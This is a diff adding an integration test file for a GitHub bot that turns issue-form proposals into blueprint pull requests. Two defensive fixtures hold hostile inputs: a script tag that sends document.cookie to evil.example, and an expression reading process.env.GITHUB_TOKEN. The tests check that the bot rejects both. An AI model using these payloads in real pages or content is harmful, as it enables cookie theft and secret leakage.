@@ -1,0 +1,187 @@
+/**
+ * The issue-form bot (scripts/propose-from-issue.ts) as the workflow runs it: a real process
+ * reading the event payload file, with an app token, against a fake GitHub.
+ */
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { botMarker } from '../../src/lib/contribute/issue-comment';
+import { sectionFieldId } from '../../src/lib/contribute/issue-form';
+import { validateContent } from '../../src/lib/validate';
+import { readContentFiles } from '../../scripts/lib/content-files';
+import { issueBody, validAnswers, type Answers } from '../fixtures/contribute/issue-body';
+import { projectRoot, runScript, startFakeGitHub, type FakeGitHub, type FakeIssue, type ScriptResult } from '../support/fake-github';
+
+const slug = 'giving-ward-clerks-a-digital-bed-board-in-six-weeks';
+const repoPath = `src/content/blueprints/${slug}.mdx`;
+const labels = ['blueprint-proposal', 'content'];
+
+let fake: FakeGitHub;
+let work: string;
+let count = 0;
+
+beforeAll(async () => {
+  fake = await startFakeGitHub();
+  fake.addUser('proposal-bot[bot]', 'app-token', 'Bot');
+  fake.addUser('proposer', 'proposer-token');
+  work = mkdtempSync(join(tmpdir(), 'propose-test-'));
+});
+
+afterAll(async () => {
+  await fake?.close();
+  rmSync(work, { recursive: true, force: true });
+});
+
+function repository(): string {
+  const name = `commons/site-${++count}`;
+  fake.createRepo(name, { collaborators: ['proposal-bot[bot]'] });
+  return name;
+}
+
+function openIssue(repo: string, answers: Answers, issueLabels = labels): FakeIssue {
+  return fake.openIssue(repo, { title: `Proposal: ${answers.title ?? ''}`, body: issueBody(answers), user: 'proposer', labels: issueLabels });
+}
+
+/** Runs the bot as the workflow does, for the issue as it is now in the fake. */
+function runBot(repo: string, issue: FakeIssue, action = 'opened'): Promise<ScriptResult> {
+  const event = join(work, `event-${count}-${issue.number}-${Date.now()}.json`);
+  writeFileSync(event, JSON.stringify({
+    action,
+    issue: { number: issue.number, title: issue.title, body: issue.body, state: issue.state, labels: issue.labels.map((name) => ({ name })), user: { login: issue.user, id: 4242 }, created_at: '2025-02-03T10:00:00Z' },
+    repository: { full_name: repo },
+  }));
+  return runScript('propose-from-issue.ts', [], { GITHUB_EVENT_PATH: event, GITHUB_REPOSITORY: repo, GITHUB_TOKEN: 'app-token', GITHUB_API_URL: fake.url });
+}
+
+const botComments = (issue: FakeIssue) => issue.comments.filter((c) => c.body.includes(botMarker));
+
+describe('a valid proposal', () => {
+  let repo: string;
+  let issue: FakeIssue;
+  let result: ScriptResult;
+  let branch: string;
+
+  beforeAll(async () => {
+    repo = repository();
+    issue = openIssue(repo, validAnswers);
+    result = await runBot(repo, issue);
+    branch = `proposal/issue-${issue.number}-${slug}`;
+  });
+
+  it('becomes a pull request from a branch named after the issue and title', () => {
+    expect(result.code).toBe(0);
+    expect(fake.pulls(repo).map((p) => p.pull!.headRef)).toEqual([branch]);
+  });
+
+  it('puts the blueprint at its place in the repository', () => {
+    const git = fake.repo(repo).git;
+    const file = git.fileAt(git.ref(`heads/${branch}`)!, repoPath)?.toString('utf8') ?? '';
+    expect(file).toContain('title: Giving ward clerks a digital bed board in six weeks');
+    expect(file).toContain('We ran a six-week pilot on two wards');
+  });
+
+  it('commits a file that passes the same checks as the build', () => {
+    const git = fake.repo(repo).git;
+    const source = git.fileAt(git.ref(`heads/${branch}`)!, repoPath)!.toString('utf8');
+    const path = `src/content/blueprints/${slug}.mdx`;
+    const { problems } = validateContent([...readContentFiles(projectRoot).filter((f) => f.path !== path), { path, source, kind: 'blueprint' }], new Set([path]));
+    expect(problems).toEqual([]);
+  });
+
+  it('credits the proposer in the commit', () => {
+    const git = fake.repo(repo).git;
+    expect(git.readCommit(git.ref(`heads/${branch}`)!).message).toContain('Co-authored-by: proposer <4242+proposer@users.noreply.github.com>');
+  });
+
+  it('titles the pull request after the blueprint and closes the issue when merged', () => {
+    const [pull] = fake.pulls(repo);
+    expect(pull.title).toBe('Blueprint: Giving ward clerks a digital bed board in six weeks');
+    expect(pull.body).toContain(`Closes #${issue.number}`);
+  });
+
+  it('labels the pull request', () => {
+    expect(fake.pulls(repo)[0].labels).toEqual(['content', 'blueprint', 'domain:technical-build']);
+  });
+
+  it('replies on the issue with the pull request link', () => {
+    const [comment] = botComments(issue);
+    expect(comment.body).toContain(`https://github.com/${repo}/pull/${fake.pulls(repo)[0].number}`);
+  });
+});
+
+describe('editing a proposal', () => {
+  let repo: string;
+  let issue: FakeIssue;
+
+  beforeAll(async () => {
+    repo = repository();
+    issue = openIssue(repo, validAnswers);
+    await runBot(repo, issue);
+    issue.body = issueBody({ ...validAnswers, 'outcome-headline': 'Phone calls to find a bed fell from about 60 a day to 5.' });
+    await runBot(repo, issue, 'edited');
+  });
+
+  it('updates the same pull request', () => {
+    expect(fake.pulls(repo)).toHaveLength(1);
+    const git = fake.repo(repo).git;
+    const head = git.ref(`heads/${fake.pulls(repo)[0].pull!.headRef}`)!;
+    expect(git.fileAt(head, repoPath)?.toString()).toContain('60 a day to 5.');
+  });
+
+  it('edits its earlier comment instead of adding another', () => {
+    expect(botComments(issue)).toHaveLength(1);
+    expect(botComments(issue)[0].body).toContain('Pull request updated');
+  });
+});
+
+describe('a proposal with problems', () => {
+  it('gets a comment naming a script in a section, and no pull request', async () => {
+    const repo = repository();
+    const issue = openIssue(repo, { ...validAnswers, [sectionFieldId('What we did')]: 'We did it.\n\n<script>fetch("https://evil.example/?c=" + document.cookie)</script>' });
+    const result = await runBot(repo, issue);
+    expect(result.code).toBe(0);
+    expect(botComments(issue)[0]?.body).toMatch(/\*\*What we did \(line 3 of your answer\)\*\*/);
+    expect(fake.pulls(repo)).toEqual([]);
+    expect(fake.repo(repo).git.refs()).toEqual(['heads/main']);
+  });
+
+  it('gets a comment naming an expression that would read secrets, and no pull request', async () => {
+    const repo = repository();
+    const issue = openIssue(repo, { ...validAnswers, [sectionFieldId('Costs and funding')]: 'It cost {process.env.GITHUB_TOKEN} pounds.' });
+    await runBot(repo, issue);
+    expect(botComments(issue)[0]?.body).toMatch(/\*\*Costs and funding \(line 1 of your answer\)\*\*/);
+    expect(fake.pulls(repo)).toEqual([]);
+  });
+
+  it('gets a comment naming a choice that is not on the list', async () => {
+    const repo = repository();
+    const issue = openIssue(repo, { ...validAnswers, 'cost-band': 'Loads of money' });
+    await runBot(repo, issue);
+    expect(botComments(issue)[0]?.body).toContain('- **Total cost**: "Loads of money" is not one of the choices: pick one of Under £50k,');
+    expect(fake.pulls(repo)).toEqual([]);
+  });
+
+  it('gets its comment turned into the pull request link once fixed', async () => {
+    const repo = repository();
+    const issue = openIssue(repo, { ...validAnswers, 'cost-band': 'Loads of money' });
+    await runBot(repo, issue);
+    issue.body = issueBody(validAnswers);
+    await runBot(repo, issue, 'edited');
+    expect(botComments(issue)).toHaveLength(1);
+    expect(botComments(issue)[0].body).toContain('Pull request opened');
+    expect(fake.pulls(repo)).toHaveLength(1);
+  });
+});
+
+describe('an issue that is not a proposal', () => {
+  it('is left alone, without a single request to GitHub', async () => {
+    const repo = repository();
+    const issue = openIssue(repo, validAnswers, ['feedback']);
+    const mark = fake.requests.length;
+    const result = await runBot(repo, issue);
+    expect(result.code).toBe(0);
+    expect(result.stdout).toContain('nothing to do');
+    expect(fake.requests.length).toBe(mark);
+  });
+});
